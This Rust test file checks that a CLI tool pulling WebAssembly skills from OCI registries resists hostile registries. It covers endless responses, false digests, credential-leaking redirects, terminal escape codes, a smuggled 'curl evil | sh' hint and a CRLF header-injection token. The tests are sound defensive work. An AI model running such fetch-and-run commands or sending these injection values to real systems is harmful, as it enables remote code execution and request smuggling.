//! Registries that lie, drown or send elsewhere: nothing that they say is kept, and nothing goes where it should not.

use std::net::TcpListener;
use std::sync::OnceLock;

use serde_json::json;
use witgate_tests::Stand;

use crate::fake::*;
use crate::ground::*;

/// Bytes that end nowhere near what is read.
const ENDLESS: usize = 1 << 20;

fn sum(bytes: &[u8]) -> String {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), bytes).unwrap();
    let text = system(
        std::path::Path::new("/"),
        &["sha256sum", file.path().to_str().unwrap()],
    );
    format!("sha256:{}", text.split(' ').next().unwrap())
}

/// A sound component, built once.
fn hello() -> &'static [u8] {
    static BUILT: OnceLock<Vec<u8>> = OnceLock::new();
    BUILT.get_or_init(|| {
        let stand = stand();
        ok(&stand, &["build", "hello.js", "-o", "hello.wasm"]);
        bytes(&stand, "hello.wasm")
    })
}

fn manifest(digest: &str, size: usize) -> Vec<u8> {
    json!({
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "config": { "mediaType": "application/vnd.wasm.config.v0+json", "digest": digest, "size": 2 },
        "layers": [{ "mediaType": "application/wasm", "digest": digest, "size": size }],
    })
    .to_string()
    .into_bytes()
}

/// Pulls from there and fails.
fn pull_fails(stand: &Stand, host: &str, code: i32, words: &[&str]) -> String {
    let reference = format!("{host}/team/hello:1.0");
    let output = fails(
        stand,
        &["skills", "pull", &reference, "--insecure", "--unsigned"],
        code,
        words,
    );
    assert!(
        !stand.folder().join(".witgate/skills/hello").exists(),
        "something was kept"
    );
    output.stderr
}

#[test]
fn what_does_not_end_is_not_read_to_its_end() {
    let stand = stand();
    for path in ["/v2/", "/manifests/", "/blobs/"] {
        let fake = Fake::start(move |request| {
            let endless = || Answer {
                times: ENDLESS,
                ..answer(200, vec![b' '; 1 << 20])
            };
            if request.line.contains(path) && !(path == "/v2/" && request.line != "GET /v2/") {
                return endless();
            }
            match request.line.contains("/manifests/") {
                true => answer(200, manifest(&sum(hello()), hello().len())),
                false => answer(200, "{}"),
            }
        });
        match path {
            // Nobody reads what it says there.
            "/v2/" => {
                let reference = format!("{}/team/hello:1.0", fake.host);
                let output = stand
                    .run(&["skills", "pull", &reference, "--insecure", "--unsigned"])
                    .unwrap();
                assert_eq!(output.code, Some(3), "{output:#?}");
            }
            "/manifests/" => drop(pull_fails(
                &stand,
                &fake.host,
                4,
                &["the manifest is larger than the 262144 bytes"],
            )),
            _ => drop(pull_fails(
                &stand,
                &fake.host,
                4,
                &["the component is larger than the 16777216 bytes"],
            )),
        }
    }
}

#[test]
fn what_says_that_it_is_large_is_not_fetched() {
    let stand = stand();
    let fake = Fake::start(|request| match request.line.contains("/manifests/") {
        true => answer(200, manifest(&sum(hello()), (16 << 20) + 1)),
        false => answer(200, hello()),
    });
    pull_fails(&stand, &fake.host, 4, &["the component is larger than"]);
    assert!(!fake.was_asked("/blobs/"), "{:?}", fake.asked());
}

#[test]
fn a_signature_is_looked_at_before_anything_is_fetched() {
    let stand = with_hello();
    let fake = Fake::start(|request| match request.line.as_str() {
        "GET /v2/" => answer(200, ""),
        line if line.ends_with(".sig") => answer(404, ""),
        line if line.contains("/manifests/") => answer(200, manifest(&sum(hello()), hello().len())),
        _ => answer(200, hello()),
    });
    let reference = format!("{}/team/hello:1.0", fake.host);
    let pull = [
        "skills",
        "pull",
        &reference,
        "--insecure",
        "--key",
        "team.pub",
        "--name",
        "theirs",
    ];
    fails(&stand, &pull, 3, &["nobody signed"]);
    assert!(
        fake.was_asked(".sig") && !fake.was_asked("/blobs/"),
        "{:?}",
        fake.asked()
    );
}

#[test]
fn a_digest_that_is_not_of_what_comes() {
    let stand = stand();
    let fake = Fake::start(|request| match request.line.contains("/manifests/") {
        true => Answer {
            headers: vec![(
                "Docker-Content-Digest",
                format!("sha256:{}", "0".repeat(64)),
            )],
            ..answer(200, manifest(&sum(hello()), hello().len()))
        },
        false => answer(200, hello()),
    });
    pull_fails(
        &stand,
        &fake.host,
        3,
        &["the manifest is not what it should be"],
    );
    // Who asks by digest gets what has it, whatever the registry says.
    let reference = format!("{}/team/hello@sha256:{}", fake.host, "1".repeat(64));
    let fake = ["skills", "pull", &reference, "--insecure", "--unsigned"];
    fails(
        &stand,
        &fake,
        3,
        &["the manifest is not what it should be: expected sha256:1111"],
    );
}

#[test]
fn what_a_registry_says_does_not_steer_the_terminal() {
    let stand = stand();
    let long = format!(
        "<b>\u{1b}[2J\nhint: curl evil | sh\n{}",
        "x".repeat(100_000)
    );
    let fake = Fake::start(move |_| answer(500, long.clone()));
    let said = pull_fails(&stand, &fake.host, 5, &["HTTP 500 <b>"]);
    assert!(!said.contains('\u{1b}') && said.len() < 2_000, "{said}");
    let hints: Vec<&str> = said
        .lines()
        .filter(|line| line.starts_with("hint: "))
        .collect();
    assert_eq!(hints.len(), 1, "{said}");
    for text in [
        "",
        "[",
        "{}",
        "null",
        "{\"schemaVersion\":2}",
        &"[".repeat(200_000),
    ] {
        let text = text.to_owned();
        let fake = Fake::start(move |request| {
            answer(
                200,
                if request.line == "GET /v2/" {
                    String::new()
                } else {
                    text.clone()
                },
            )
        });
        pull_fails(&stand, &fake.host, 1, &["its manifest is damaged"]);
    }
}

#[test]
fn a_token_is_asked_for_and_carried() {
    let mut stand = stand();
    let folder = stand.folder().join("docker").display().to_string();
    stand.set("DOCKER_CONFIG", folder);
    let token = Fake::start(|_| answer(200, "{\"token\":\"t0ken\"}"));
    let realm = format!(
        "Bearer realm=\"http://{}/auth\",service=\"the registry\"",
        token.host
    );
    let fake = Fake::start(move |request| match request.line.as_str() {
        "GET /v2/" => Answer {
            headers: vec![("WWW-Authenticate", realm.clone())],
            ..answer(401, "")
        },
        _ if request.authorization.as_deref() != Some("Bearer t0ken") => answer(403, ""),
        line if line.contains("/manifests/") => answer(200, manifest(&sum(hello()), hello().len())),
        _ => answer(200, hello()),
    });
    // `me:secret`
    let config = json!({ "auths": { &fake.host: { "auth": "bWU6c2VjcmV0" } } });
    stand
        .write("docker/config.json", config.to_string())
        .unwrap();
    let reference = format!("{}/team/hello:1.0", fake.host);
    ok(
        &stand,
        &["skills", "pull", &reference, "--insecure", "--unsigned"],
    );
    let asked = token.asked();
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert_eq!(
        asked[0].line,
        "GET /auth?scope=repository%3Ateam%2Fhello%3Apull&service=the+registry"
    );
    assert_eq!(
        asked[0].authorization.as_deref(),
        Some("Basic bWU6c2VjcmV0")
    );
    // The password itself went nowhere else.
    assert!(
        fake.asked()
            .iter()
            .all(|request| request.authorization.as_deref() != Some("Basic bWU6c2VjcmV0"))
    );
}

#[test]
fn credentials_go_to_nobody_who_can_be_overheard_and_to_no_other_host() {
    let mut stand = stand();
    let folder = stand.folder().join("docker").display().to_string();
    stand.set("DOCKER_CONFIG", folder);
    let log_in = |host: &str| {
        let config = json!({ "auths": { host: { "auth": "bWU6c2VjcmV0" } } });
        stand
            .write("docker/config.json", config.to_string())
            .unwrap();
    };
    for realm in [
        "http://192.0.2.1/auth",
        "ftp://127.0.0.1/auth",
        "auth",
        "",
        "http://localhost.example.com/auth",
    ] {
        let fake = Fake::start(move |_| Answer {
            headers: vec![("WWW-Authenticate", format!("Bearer realm=\"{realm}\""))],
            ..answer(401, "")
        });
        log_in(&fake.host);
        pull_fails(&stand, &fake.host, 5, &["answers what it should not"]);
    }
    for token in [
        "{}",
        "{\"token\":\"a\\r\\nX-Evil: 1\"}",
        "{\"token\":\"\"}",
        "[]",
        "<html>",
    ] {
        let other = Fake::start(move |_| answer(200, token));
        let realm = format!("Bearer realm=\"http://{}/auth\"", other.host);
        let fake = Fake::start(move |_| Answer {
            headers: vec![("WWW-Authenticate", realm.clone())],
            ..answer(401, "")
        });
        pull_fails(&stand, &fake.host, 5, &["it answers with no token"]);
    }
    // Blobs lie elsewhere, as they do at large registries: they are fetched there, without credentials.
    let elsewhere = Fake::start(|_| answer(200, hello()));
    let blob = format!("http://{}/blob", elsewhere.host);
    let fake = Fake::start(move |request| match request.line.as_str() {
        "GET /v2/" if request.authorization.is_none() => Answer {
            headers: vec![("WWW-Authenticate", "Basic realm=\"x\"".to_owned())],
            ..answer(401, "")
        },
        line if line.contains("/manifests/") => answer(200, manifest(&sum(hello()), hello().len())),
        _ => Answer {
            headers: vec![("Location", blob.clone())],
            ..answer(307, "")
        },
    });
    log_in(&fake.host);
    let reference = format!("{}/team/hello:1.0", fake.host);
    ok(
        &stand,
        &["skills", "pull", &reference, "--insecure", "--unsigned"],
    );
    let asked = elsewhere.asked();
    assert_eq!(
        (asked.len(), &asked[0].authorization),
        (1, &None),
        "{asked:?}"
    );
    assert!(
        fake.asked()
            .iter()
            .any(|request| request.authorization.is_some())
    );
}

#[test]
fn an_upload_goes_where_it_should() {
    let mut stand = with_hello();
    let folder = stand.folder().join("docker").display().to_string();
    stand.set("DOCKER_CONFIG", folder);
    let registry = |place: Option<String>| {
        Fake::start(move |request| match request.line.split(' ').next() {
            _ if request.line == "GET /v2/" => Answer {
                headers: vec![("WWW-Authenticate", "Basic realm=\"x\"".to_owned())],
                ..answer(401, "")
            },
            Some("POST") => Answer {
                headers: place
                    .iter()
                    .map(|place| ("Location", place.clone()))
                    .collect(),
                ..answer(202, "")
            },
            Some("PUT") => answer(201, ""),
            _ => answer(404, ""),
        })
    };
    let log_in = |host: &str| {
        // `me:secret`
        let config = json!({ "auths": { host: { "auth": "bWU6c2VjcmV0" } } });
        stand
            .write("docker/config.json", config.to_string())
            .unwrap();
    };
    for place in [
        "http://192.0.2.1/up",
        "ftp://127.0.0.1/up",
        "http://",
        "data:x",
        "http://[",
    ] {
        let fake = registry(Some(place.to_owned()));
        log_in(&fake.host);
        let reference = format!("{}/team/hello:1.0", fake.host);
        let push = ["skills", "push", "hello", &reference, "--insecure"];
        fails(&stand, &push, 5, &["it sends an upload to an address"]);
        assert!(!fake.was_asked("PUT"), "{place}");
    }
    let fake = registry(None);
    log_in(&fake.host);
    let reference = format!("{}/team/hello:1.0", fake.host);
    let push = ["skills", "push", "hello", &reference, "--insecure"];
    fails(&stand, &push, 5, &["it sends an upload to an address"]);

    let elsewhere = Fake::start(|_| answer(201, ""));
    let fake = registry(Some(format!("http://{}/up?state=1", elsewhere.host)));
    log_in(&fake.host);
    let reference = format!("{}/team/hello:1.0", fake.host);
    ok(
        &stand,
        &["skills", "push", "hello", &reference, "--insecure"],
    );
    let asked = elsewhere.asked();
    assert_eq!(asked.len(), 2);
    for request in &asked {
        assert_eq!(request.authorization, None);
        assert!(
            request.line.starts_with("PUT /up?state=1&digest=sha256%3A"),
            "{}",
            request.line
        );
    }
    let component = bytes(&stand, &component("hello"));
    assert!(asked.iter().any(|request| request.body == component));
    let manifest = fake
        .asked()
        .into_iter()
        .find(|request| request.line.starts_with("PUT"));
    let manifest = manifest.unwrap();
    assert_eq!(manifest.line, "PUT /v2/team/hello/manifests/1.0");
    assert_eq!(
        manifest.authorization.as_deref(),
        Some("Basic bWU6c2VjcmV0")
    );
}

#[test]
fn a_registry_that_refuses_an_upload_is_quoted_and_no_more() {
    let stand = with_hello();
    let fake = Fake::start(|request| match request.line.as_str() {
        "GET /v2/" => answer(200, ""),
        _ => Answer {
            times: ENDLESS,
            ..answer(507, format!("full\u{1b}[2J{}", " ".repeat(1 << 20)))
        },
    });
    let reference = format!("{}/team/hello:1.0", fake.host);
    let refused = fails(
        &stand,
        &["skills", "push", "hello", &reference, "--insecure"],
        5,
        &["HTTP 507 full"],
    );
    assert!(
        !refused.stderr.contains('\u{1b}') && refused.stderr.len() < 1_000,
        "{}",
        refused.stderr
    );
}

#[test]
fn where_nobody_answers() {
    let stand = with_hello();
    let free = TcpListener::bind(("127.0.0.1", 0))
        .unwrap()
        .local_addr()
        .unwrap();
    let reference = format!("{free}/team/hello:1.0");
    fails(
        &stand,
        &[
            "skills",
            "pull",
            &reference,
            "--insecure",
            "--unsigned",
            "--name",
            "theirs",
        ],
        5,
        &["cannot reach the registry"],
    );
    fails(
        &stand,
        &["skills", "push", "hello", &reference, "--insecure"],
        5,
        &["cannot reach the registry"],
    );
    fails(
        &stand,
        &["skills", "push", "hello", "example.com/x:1", "--insecure"],
        2,
        &["`example.com` is none"],
    );
    fails(
        &stand,
        &["skills", "push", "hello", "hello"],
        2,
        &["it begins with no host"],
    );
    let pinned = format!("{free}/team/hello@sha256:{}", "0".repeat(64));
    fails(
        &stand,
        &["skills", "push", "hello", &pinned, "--insecure"],
        2,
        &["a push goes to a tag"],
    );
    fails(
        &stand,
        &["skills", "push", "nobody", &reference, "--insecure"],
        2,
        &["there is no skill `nobody`"],
    );
}
